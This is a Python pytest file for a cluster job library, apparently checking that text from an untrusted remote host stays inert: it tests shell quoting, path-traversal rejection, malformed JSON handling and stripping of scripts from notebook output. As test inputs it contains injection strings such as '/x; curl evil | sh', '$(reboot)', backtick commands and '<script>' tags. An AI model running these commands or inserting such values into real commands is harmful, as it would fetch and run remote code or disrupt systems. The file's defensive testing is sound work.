"""Texts of a hostile host: none reaches a pattern, a path, a command or a page as more than a text."""

from __future__ import annotations

import json
import re
from types import SimpleNamespace
from typing import Any

import pytest

from clusterfn.bridge import layout
from clusterfn.calls import attach, outcome
from clusterfn.config.host_text import module_name, reading, shell_word
from clusterfn.config.job_spec import read_spec
from clusterfn.config.spec import Host, ResultPolicy
from clusterfn.errors import HostError, PayloadError
from clusterfn.hosts.connection import Completed, Reply
from clusterfn.hosts.rpc.frames import error_of

PLACE = outcome.JobLocation("box", "7f3a", "/root/jobs/7f3a", ResultPolicy(data_only=True))


def raised(module: object, python: object = "/usr/bin/python3") -> PayloadError:
    """The error for a payload that needs a module, as its host says."""
    missing = {"module": module, "python": python}
    told = {"kind": layout.PAYLOAD_BROKEN, "message": "m", "exception": {"missing": missing}}
    error = outcome.exception_of(told, None, PLACE)
    assert isinstance(error, PayloadError)
    return error


@pytest.mark.parametrize(
    "module", ["**x", "**/**/*", "../private", "x/../../y", "*", "{0}", "a" * 300, "a b", "x;reboot", "x\x00", "", []]
)  # fmt: skip
def test_what_is_no_name_of_a_module_is_looked_for_nowhere(module, tmp_path, monkeypatch):
    (tmp_path / "private").mkdir()
    (tmp_path / "private" / "secret.py").touch()
    monkeypatch.chdir(tmp_path)

    error = raised(module)

    assert "private" not in str(error.hint) and "No module named" not in str(error)
    assert not module_name(module)


def test_the_name_of_a_module_is_still_found_below_the_working_directory(tmp_path, monkeypatch):
    (tmp_path / "tools").mkdir()
    (tmp_path / "tools" / "mine_alone.py").touch()
    monkeypatch.chdir(tmp_path)

    assert "add tools to PYTHONPATH" in str(raised("mine_alone").hint)


def test_a_path_of_a_host_is_one_quoted_word_of_a_command_that_people_copy():
    assert "'/x; curl evil | sh' -m pip install nowhere_here" in str(raised("nowhere_here", "/x; curl evil | sh").hint)
    assert shell_word("/x\n$(reboot)") == "'/x $(reboot)'"
    refused = {"kind": "refused", "message": "m", "path": "/r; reboot", "own": True}
    assert "`chmod go-w '/r; reboot'`" in str(error_of(Host("box", "box", "bare", "f:1"), refused).hint)
    moving = {"kind": "moving", "message": "m", "path": "/r", "to": "/n`reboot`"}
    assert "clusterfn move box '/n`reboot`'" in str(error_of(Host("box", "box", "bare", "f:1"), moving).hint)


def nested(depth: int) -> dict[str, Any]:
    told: dict[str, Any] = {"kind": "lost"}
    for _ in range(depth):
        told = {"kind": "dependency", "cause": told}
    return told


@pytest.mark.parametrize(
    ("told", "why"),
    [
        (nested(450), "its causes are nested too deeply"),
        ({"kind": "returned", "value": {"size": 10**400}}, "its 'size'"),
        ({"kind": "exited", "code": 1 << 70}, "its 'code'"),
        ({"kind": "returned", "usage": {"wall_s": float("inf")}}, "its 'usage'"),
        ({"kind": "returned", "usage": {"wall_s": "1"}}, "its 'usage'"),
        ({"kind": "returned", "usage": {"gpus": [{"peak_memory_bytes": 10**30}]}}, "its 'usage'"),
        ({"kind": "returned", "usage": {"gpus": [7]}}, "its 'usage'"),
    ],
)
def test_an_outcome_whose_numbers_or_depth_no_message_could_show_is_damaged(told, why):
    with pytest.raises(ValueError, match=re.escape(why)):
        outcome.read(json.dumps(told).encode())


SPEC = {
    "id": "7f3a" * 4, "name": "f", "host": "box", "root": "/r", "bridge": "/r/b", "resources": {}, "secrets": ["A"],
    "outputs": ["*.pt"],
}  # fmt: skip
NO_SPEC = [
    b"", b"[]", b"[" * 100_000, b"null", json.dumps({**SPEC, "id": "../../x"}), json.dumps({**SPEC, "secrets": "HOME"}),
    json.dumps({**SPEC, "outputs": [1]}), json.dumps({**SPEC, "group": {"count": 10**12}}), json.dumps({"id": "7f3a"}),
]  # fmt: skip


@pytest.mark.parametrize("data", NO_SPEC, ids=range(len(NO_SPEC)))
def test_a_record_of_a_job_that_makes_no_sense_is_an_error_that_names_the_host(data):
    named = pytest.raises(HostError, match=r"box sent spec\.json in a form that clusterfn cannot read")
    with named, reading("box", "spec.json"):
        read_spec(data if isinstance(data, bytes) else data.encode())
    assert read_spec(json.dumps(SPEC).encode()) == SPEC


@pytest.mark.parametrize(
    "page", [b'{"after": "9"}', b"7", b"[" * 100_000, b'{"after": "9"', b"null", b'{"state": "PENDING"}']
)
def test_a_list_of_jobs_that_never_ends_or_makes_no_sense_is_an_error(page):
    def supervise(*_: str) -> Reply[Completed]:
        reply: Reply[Completed] = Reply(lambda: None)
        reply.resolve(Completed(0, None, page, b""))
        return reply

    box: Any = SimpleNamespace(supervise=supervise, root="/r", host=SimpleNamespace(name="box"))

    with pytest.raises(HostError, match="box sent its list of jobs in a form"):
        attach.list_host_jobs(box)


def test_a_cell_of_a_hostile_host_runs_nothing_in_the_notebook_and_sets_only_what_was_asked_for():
    cell_magic = pytest.importorskip("clusterfn.jupyter.cell_magic")
    html = {"text/html": "<script>x</script>", "application/javascript": "x", "text/plain": "a\x1b[2Jb"}
    told = {"values": {"asked": 1, "open": 2}, "missing": [], "shown": [html, {"image/png": "x", "text/html": "y"}]}

    values, shown = cell_magic.read_result(told, ["asked", "lacking"], "box", is_data=True)

    assert values == {"asked": 1}
    assert [set(bundle) for bundle in shown] == [{"text/plain"}, {"text/plain", "image/png"}]
    assert shown[0]["text/plain"] == "ab"
    assert cell_magic.read_result(told, ["asked"], "box", is_data=False)[1] == told["shown"]
    for nonsense in (7, {}, {"values": 1, "shown": []}, {"values": {}, "shown": [3]}):
        with pytest.raises(HostError, match="box sent the result of the cell"):
            cell_magic.read_result(nonsense, ["asked"], "box", is_data=True)
